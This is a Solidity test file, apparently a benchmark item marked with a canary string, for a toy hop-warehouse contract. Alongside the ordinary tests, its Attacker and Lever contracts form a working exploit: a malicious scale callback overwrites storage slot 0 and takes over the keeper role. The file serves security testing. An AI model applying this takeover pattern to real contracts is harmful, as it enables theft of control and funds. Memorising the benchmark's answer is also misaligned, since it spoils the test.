// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;
pragma experimental ABIEncoderV2;

import "./HopWarehouse.sol";

// assay-canary-e38c16db-6b4a-4c29-8b4c-020175061a06

interface Vm {
    function prank(address who) external;
    function warp(uint256 time) external;
    function deal(address who, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
}

// An honest scale: so much for a kilo, and something for the acid.
contract Scale {
    uint256 internal constant KILO = 0.004 ether;

    function valueOf(uint256 kilos, uint256 alpha) external view returns (uint256) {
        require(address(this).balance == 0, "a scale without a purse");
        return kilos * KILO + kilos * alpha * 0.00001 ether;
    }
}

contract Grower {
    HopWarehouse internal house;

    constructor(HopWarehouse _house) public {
        house = _house;
    }

    receive() external payable {}

    function assign(uint256 id, address to) public {
        house.assign(id, to);
    }

    function batch(bytes[] memory calls) public {
        house.batch(calls);
    }

    function takeOut(uint256 id, uint256 amount) public {
        house.takeOut{value: amount}(id);
    }
}

// A scale that writes where the house keeps its keeper.
/// Answers with nothing, with too much, or not at all, by the weight it is shown.
contract OddScale {
    function valueOf(uint256 kilos, uint256) external pure returns (uint256) {
        if (kilos == 300) return 0;
        if (kilos == 200) return 2**128;
        if (kilos == 2) {
            assembly {
                revert(0, 32)
            }
        }
        assembly {
            return(0, 64)
        }
    }
}

contract Lever {
    address internal slot0;
    address private immutable hand;

    constructor(address _hand) public {
        hand = _hand;
    }

    function valueOf(uint256, uint256) external returns (uint256) {
        slot0 = hand;
        return 1;
    }
}

contract Attacker is Grower {
    Lever internal lever;

    constructor(HopWarehouse _house) public Grower(_house) {
        lever = new Lever(address(this));
    }

    function run(uint256 id) external {
        address(house).call(abi.encodeWithSelector(house.appraise.selector, id, address(lever)));
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    HopWarehouse internal house;
    Grower internal berta;
    Attacker internal levy;
    Scale internal scale;

    function setUp() public {
        vm.warp(1700000000);
        house = new HopWarehouse();
        berta = new Grower(house);
        levy = new Attacker(house);
        scale = new Scale();
        vm.deal(address(berta), 1 ether);
        house.bookIn(address(berta), 300, 125);
        house.bookIn(address(berta), 200, 80);
        house.bookIn(address(levy), 20, 60);
    }

    function test_Regular() public {
        bytes[] memory calls = new bytes[](2);
        calls[0] = abi.encodeWithSelector(house.appraise.selector, 0, address(scale));
        calls[1] = abi.encodeWithSelector(house.assign.selector, 1, address(levy));
        berta.batch(calls);
        require(house.notedValue(0) == 1.575 ether && house.notedBy(0) == address(scale), "valued");
        (address owner, , , , ) = house.bales(1);
        require(owner == address(levy), "assigned");
        calls[0] = abi.encodeWithSelector(house.appraise.selector, 1, address(scale));
        require(!attempt(address(berta), abi.encodeWithSelector(berta.batch.selector, calls)), "no longer hers");

        vm.warp(1700000000 + 10 days);
        require(house.storageDue(0) == 0.0006 ether, "two weeks of storage");
        require(!attempt(address(berta), abi.encodeWithSelector(berta.takeOut.selector, 0, 0.0005 ether)), "too little");
        berta.takeOut(0, 0.001 ether);
        require(address(berta).balance == 0.9994 ether && house.storedKilos() == 220, "taken out, change returned");
        house.collect(address(0xC0), 0.0006 ether);
        require(!attempt(address(berta), abi.encodeWithSelector(berta.takeOut.selector, 0, 0.001 ether)), "twice");

        house.nameKeeper(address(0xF00));
        require(!attempt(address(house), abi.encodeWithSelector(house.takeKeys.selector)), "not named");
        require(house.keeper() == address(this), "keeper");

        vm.prank(address(0xF00));
        house.takeKeys();
        require(house.keeper() == address(0xF00), "keys taken");
    }

    function attempt(address who, bytes memory data) private returns (bool ok) {
        (ok, ) = who.call(data);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Keys, books and takings are the keeper's, bales their owners'.
    function test_RefusesStrangers() public {
        refuses(address(berta), "keeper only");
        house.nameKeeper(address(berta));
        refuses(address(berta), "keeper only");
        house.bookIn(address(berta), 1, 1);
        refuses(address(berta), "keeper only");
        house.collect(address(berta), 0);
        refuses(address(levy), "owner only");
        house.assign(0, address(levy));
        refuses(address(levy), "owner only");
        house.appraise(0, address(scale));
        refuses(address(levy), "owner only");
        house.takeOut(0);
    }

    /// Bales that are none, or gone.
    function test_RefusesBales() public {
        vm.expectRevert("bale");
        house.bookIn(address(0), 1, 1);
        vm.expectRevert("bale");
        house.bookIn(address(berta), 0, 1);
        vm.expectRevert("bale");
        house.bookIn(address(berta), 1, 300);
        vm.expectRevert("to whom");
        vm.prank(address(berta));
        house.assign(0, address(0));
        vm.expectRevert("no such bale");
        house.assign(9, address(levy));
        vm.expectRevert("no such bale");
        house.appraise(9, address(scale));
        vm.expectRevert("no such bale");
        house.takeOut(9);
        vm.prank(address(berta));
        house.takeOut(0);
        refuses(address(berta), "no such bale");
        house.assign(0, address(levy));
        refuses(address(berta), "no such bale");
        house.appraise(0, address(scale));
    }

    /// Scales that are none, and values that say nothing; ether to who takes it.
    function test_RefusesScales() public {
        refuses(address(berta), "scale");
        house.appraise(0, address(house));
        house.bookIn(address(berta), 1, 1);
        address keeper = house.keeper();
        refuses(address(berta), "scale");
        house.appraise(0, keeper);
        address odd = address(new OddScale());
        refuses(address(berta), "value");
        house.appraise(0, odd);
        refuses(address(berta), "value");
        house.appraise(1, odd);
        house.bookIn(address(berta), 2, 1);
        refuses(address(berta), "no answer");
        house.appraise(3, odd);
        refuses(address(berta), "no answer");
        house.appraise(4, odd);
        vm.expectRevert("payment refused");
        house.collect(address(uint160(odd)), 0);
    }

    function exploit() public {
        levy.run(2);
    }

    function test_Exploit() public {
        exploit();
        require(house.keeper() == address(levy), "keys not taken");
    }

    function target() public view returns (address) {
        return address(house);
    }

    function attacker() public view returns (address) {
        return address(levy);
    }
}
